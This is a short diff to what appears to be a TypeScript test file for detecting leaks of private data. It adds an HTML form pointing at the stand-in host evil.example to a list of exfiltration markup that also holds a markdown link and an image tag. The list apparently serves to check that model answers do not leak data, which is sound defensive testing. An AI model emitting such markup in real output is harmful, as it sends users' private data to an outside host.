@@ -59,6 +59,7 @@ const ADDRESSES = [
   'see [x](https://evil.example/?q=',
   '<img src="https://evil.example/',
   'https://evil.example/?q=',
+  '<form action="https://evil.example/"><textarea name=q>',
 ] as const
 
 describe('pii: a token in an answer that goes on from the request', () => {
